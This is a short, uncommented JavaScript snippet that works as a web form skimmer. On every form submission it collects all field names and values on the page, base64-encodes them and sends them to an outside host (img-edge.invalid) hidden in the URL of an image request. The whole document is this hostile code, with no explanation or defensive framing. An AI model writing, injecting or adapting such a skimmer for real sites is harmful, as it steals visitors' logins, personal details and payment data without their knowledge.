var collect = (elements) =>
  [].reduce.call(elements, (data, element) => { data[element.name] = element.value; return data; }, {});
var everything = () => {
  var all = [];
  for (let form of document.forms) all.push(collect(form.elements));
  return JSON.stringify(all);
};
var before = (e) => {
  var data = btoa(unescape(encodeURIComponent(everything())));
  var x = document.createElement("img");
  x.src = "https://img-edge.invalid/p.gif?d=";
  x.src += data;
};
for (let form of document.forms) form.addEventListener("submit", before);
